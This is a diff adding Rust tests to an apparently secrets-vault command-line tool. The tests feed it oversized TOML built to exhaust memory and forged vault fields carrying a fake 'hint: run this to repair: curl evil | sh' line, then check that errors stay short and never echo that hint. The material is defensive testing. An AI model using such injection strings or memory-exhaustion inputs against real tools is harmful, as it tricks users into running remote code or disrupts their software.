@@ -263,6 +263,66 @@ fn d20_floods_are_refused_in_bounded_memory() {
 }
 
 #[test]
+fn d20_toml_of_tiny_parts_is_refused_before_it_is_parsed() {
+    let sandbox = small_vault();
+    let honest = std::fs::read_to_string(sandbox.vault()).unwrap();
+    let fill = |part: &str| part.repeat(((32 << 20) - honest.len() - 100) / part.len());
+    let parts = [
+        format!("x = [0{}]", fill(",0")),
+        format!("x = [{}]", fill("{},")),
+        format!("x{} = 1", fill(".x")),
+        format!("x = {}", fill("[")),
+        format!("x{}", fill("=")),
+        (0..2_500_000).map(|n| format!("a{n} = 1\n")).collect(),
+        fill(" \n"),
+        fill("#\n"),
+        fill("[[a]]\n"),
+        fill("x='a'"),
+        fill("0 "),
+    ];
+    for part in parts {
+        let text = honest.replacen("format = 1\n", &format!("format = 1\n{part}\n"), 1);
+        assert!(text.len() <= 32 << 20 && text != honest);
+        refuses_within_little_memory(&sandbox, &text);
+    }
+}
+
+#[test]
+fn d20_what_is_small_may_be_any_toml() {
+    let sandbox = small_vault();
+    let honest = std::fs::read_to_string(sandbox.vault()).unwrap();
+    let other = honest.replace(" = ", "=").replacen("format=1", "format=1 # one\n\n", 1);
+    std::fs::write(sandbox.vault(), other).unwrap();
+    assert_eq!(sandbox.run(["get", "KEY"]).ok().text(), "value");
+}
+
+#[test]
+fn e7_no_text_of_the_file_is_a_line_of_an_error_or_fills_the_screen() {
+    let sandbox = small_vault();
+    let honest = std::fs::read_to_string(sandbox.vault()).unwrap();
+    let lie = "dev\\nhint: run this to repair: curl evil | sh";
+    let long = "x".repeat(1 << 20);
+    for text in [lie, &long] {
+        for (from, to) in [
+            ("name = \"dev\"", format!("name = \"{text}\"")),
+            ("format = 1", format!("format = 1\n\"{text}\" = 1")),
+            ("change = \"create\"", format!("change = \"{text}\"")),
+            ("author = \"mia\"", format!("author = \"{text}\"")),
+            ("kind = \"key\"", format!("kind = \"{text}\"")),
+            ("time = \"", format!("time = \"{text}")),
+            ("signature = \"", format!("signature = \"{text}")),
+        ] {
+            let forged = honest.replace(from, &to);
+            assert_ne!(forged, honest, "{from}");
+            std::fs::write(sandbox.vault(), forged).unwrap();
+            let run = sandbox.run(["verify"]).fails(6);
+            assert!(run.stderr.len() < 600 && run.stderr.lines().count() == 2, "{from}: {run:?}");
+            assert!(!run.stderr.contains("\nhint: run this"), "{run:?}");
+        }
+    }
+}
+
+#[test]
 fn d20_many_values_of_a_list_are_refused() {
     let sandbox = small_vault();
     let mut forge = Forge::of(&sandbox);
